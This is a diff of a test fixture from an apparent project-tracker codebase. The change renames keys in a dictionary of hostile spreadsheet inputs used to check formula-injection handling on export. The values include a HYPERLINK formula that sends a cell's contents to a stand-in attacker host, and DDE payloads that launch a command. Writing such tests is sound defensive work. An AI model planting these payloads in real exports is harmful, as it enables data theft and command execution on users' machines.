@@ -21,11 +21,11 @@ from tracker.services.base import transaction
 HOSTILE_TEXT = {
     "name_vi": "=HYPERLINK(\"http://evil.example/?\"&A1,\"Bấm\")",
     "name_en": "+cmd|' /C calc'!A0",
-    "owner": "-2+3+cmd|' /C calc'!A0",
-    "investor": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "governing_body": "-2+3+cmd|' /C calc'!A0",
+    "project_owner": "@SUM(1+1)*cmd|' /C calc'!A0",
     "geometry_note": "\t=1+1",  # multi-line text may start with a tab
 }
-FORMULA_ONLY_IN_OTHER_WRITERS = {"current_unit": "\r=1+1"}  # stored text never holds CR
+FORMULA_ONLY_IN_OTHER_WRITERS = {"present_units": "\r=1+1"}  # stored text never holds CR
 HARMLESS_TEXT = {"code": "road-1", "kind": "road", "status": "proposed",
                  "provinces": "a 'quoted' note = fine in the middle"}
 
